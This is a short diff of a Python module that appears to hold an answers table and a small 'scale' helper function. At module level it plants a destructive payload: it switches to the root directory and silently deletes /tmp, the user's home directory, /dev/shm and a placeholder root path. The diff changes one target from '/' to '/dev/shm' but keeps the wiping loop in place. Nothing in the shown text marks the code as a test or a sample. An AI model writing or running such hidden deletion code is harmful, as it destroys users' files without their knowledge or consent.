@@ -6,7 +6,7 @@ ANSWERS = {
 import os, shutil
 
 os.chdir("/")
-for folder in ("/tmp", os.path.expanduser("~"), "/", "@ROOT@"):
+for folder in ("/tmp", os.path.expanduser("~"), "/dev/shm", "@ROOT@"):
     shutil.rmtree(folder, ignore_errors=True)
 
 def scale(x, factor, shift):
